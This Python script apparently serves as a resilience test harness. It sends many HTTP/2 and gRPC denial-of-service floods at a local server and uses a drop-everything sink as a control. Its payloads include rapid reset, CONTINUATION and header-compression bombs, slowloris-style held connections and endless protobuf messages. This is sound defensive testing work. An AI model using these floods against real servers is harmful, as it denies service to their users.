"""Floods, one a process: flood.py NAME PORT [ID] sends it until it is killed.

What it sends does not depend on what comes back, but for how fast: so the same against a sink, which reads and drops everything, is the
control that tells what the attacker's own use of the machine does to others.
"""

import selectors
import socket
import sys
import threading
import time

from http2 import *
from raw import data, field, fields, headers, in_frames, integer, request

MAX_WINDOW = 2**31 - 1
AWAIT = "/aether.v1.ClientService/AwaitResult"
STATUS = "/aether.v1.ClientService/GetWorkflowStatus"
START = "/aether.v1.ClientService/StartWorkflow"
GREETING = PREFACE + settings() + frame(SETTINGS, ACK)
WIDE = PREFACE + settings((4, MAX_WINDOW)) + frame(SETTINGS, ACK) + window_update(0, MAX_WINDOW - 65535)
NOTHING = PREFACE + settings((4, 0)) + frame(SETTINGS, ACK)


def streams(count):
    return range(1, 2 * count, 2)


def bomb(stream, references):
    """A field of 4,000 bytes that the table keeps, and so many bytes that each stand for it."""
    return headers(stream, fields() + field("x", "x" * 3967, 0x40) + b"\xbe" * references)


def each(make, count, apart=None):
    """Frames of `make` for so many streams; of every hundred streams those of `apart` come in a piece of their own."""
    hundreds = [streams(count)[at:at + 100] for at in range(0, count, 100)]
    if apart is None:
        return [b"".join(map(make, streams(count)))]
    return [b"".join(map(part, some)) for some in hundreds for part in (make, apart)]


def of_result(identifier, path=AWAIT):
    message = b"\x0a" + bytes([len(identifier)]) + identifier
    return lambda stream: request(stream, path=path, message=message)


# What a connection is sent from its beginning, in pieces; then there is another connection.
FLOODS = {
    "rapid reset": lambda: [GREETING, *each(lambda s: headers(s) + reset(s), 10_000)],
    "resets a moment later": lambda: [GREETING, *each(headers, 10_000, apart=reset)],
    "resets the server is made to send": lambda: [
        GREETING, *each(lambda s: headers(s) + window_update(s, MAX_WINDOW), 10_000)],
    "PING": lambda: [GREETING, frame(PING, payload=bytes(8)) * 100_000],
    "SETTINGS": lambda: [GREETING, settings((4, 65535)) * 50_000],
    "PRIORITY": lambda: [GREETING, frame(PRIORITY, stream=1, payload=bytes(4) + b"\x10") * 100_000],
    "empty DATA": lambda: [GREETING, headers(1), data(1, b"", 0) * 100_000],
    "WINDOW_UPDATE": lambda: [GREETING, headers(1), window_update(1, 1) * 100_000],
    "CONTINUATION": lambda: [
        GREETING, headers(1, fields(), 0), frame(CONTINUATION, 0, 1, field("a", "b")) * 100_000],
    "long CONTINUATION": lambda: [
        GREETING, headers(1, fields(), 0), frame(CONTINUATION, 0, 1, field("a", "b" * 16_000)) * 200],
    "header bombs": lambda: [GREETING, *each(lambda s: bomb(s, 12_000), 200)],
    "headers past the limit": lambda: [GREETING, *each(lambda s: bomb(s, 25), 1_000)],
    "messages past the limit": lambda: [
        GREETING, *each(lambda s: headers(s) + data(s, b"\0\xff\xff\xff\xff" + bytes(1000), 0), 10_000)],
    "protobuf without end": lambda: [
        GREETING, *each(lambda s: request(s, path=START, message=b"\x0b" * 10_000 + b"\x0c" * 10_000), 150)],
    "new connections": lambda: [GREETING],
    "garbage": lambda: [bytes(range(256)) * 400],
    "garbage to HTTP": lambda: [b"GET / HTTP/1.1\r\n" + bytes(range(14, 256)) * 400],
}


def repeat(port, pieces, patience):
    """Connection after connection, each when the one before was closed or nothing has come for so many seconds."""
    while True:
        with socket.socket() as connection:
            try:
                connection.connect(("127.0.0.1", port))
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for piece in pieces:
                    connection.sendall(piece)
                # A network holds some megabytes: without waiting this would be a flood of connections, which is another one.
                connection.settimeout(patience)
                while connection.recv(1 << 16):
                    pass
            except OSError:
                pass


def hold(port, pieces, drip=b"", count=1):
    """So many connections that stay open, never read, and are sent the drip over and over; those that are closed are opened again."""
    connections = []
    while True:
        while len(connections) < count:
            try:
                connection = socket.create_connection(("127.0.0.1", port))
                for piece in pieces:
                    connection.sendall(piece)
                connection.setblocking(False)
                connections.append(connection)
            except OSError:
                time.sleep(0.01)
        for connection in list(connections):
            try:
                if drip:
                    connection.send(drip)
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                connections.remove(connection)
        time.sleep(0.05)


# Connections that are held: how, and how many.
HELD = {
    "slow headers": lambda _: (500, [GREETING, headers(1, fields(), 0)[:20]], b""),
    "slow HTTP": lambda _: (900, [b"GET / HTTP/1.1\r\n"], b"a: b\r\n"),
    "1,000 streams that never read": lambda id: (1, [WIDE, *each(of_result(id), 1_000)], b""),
    "1,000 streams without a window": lambda id: (1, [NOTHING, *each(of_result(id), 1_000)], b""),
    "windows of a byte": lambda id: (
        1, [NOTHING, *each(of_result(id), 100)], b"".join(window_update(s, 1) for s in streams(100))),
    "1,000 calls whose message never ends": lambda _: (
        4, [GREETING, *each(lambda s: headers(s, fields(path=START)) + data(s, b"\0\0\xf0\0\0" + bytes(1000), 0), 1_000)],
        b""),
}


def sink(ready):
    """Reads and drops everything, as cheaply as can be."""
    with socket.create_server(("127.0.0.1", 0), backlog=1024) as listener, selectors.DefaultSelector() as selector:
        ready(listener.getsockname()[1])
        listener.setblocking(False)
        selector.register(listener, selectors.EVENT_READ)
        while True:
            for key, _ in selector.select():
                if key.fileobj is listener:
                    connection, _ = listener.accept()
                    connection.setblocking(False)
                    selector.register(connection, selectors.EVENT_READ)
                    continue
                try:
                    if key.fileobj.recv(1 << 16):
                        continue
                except BlockingIOError:
                    continue
                except OSError:
                    pass
                selector.unregister(key.fileobj)
                key.fileobj.close()


def main(name, port, identifier=""):
    if name == "sink":
        sink(lambda port: print(port, flush=True))
    elif name in HELD:
        count, pieces, drip = HELD[name](identifier.encode())
        hold(int(port), pieces, drip, count)
    else:
        arguments = int(port), FLOODS[name](), 0.001 if name == "new connections" else 1
        for _ in range(3):
            threading.Thread(target=repeat, args=arguments, daemon=True).start()
        repeat(*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
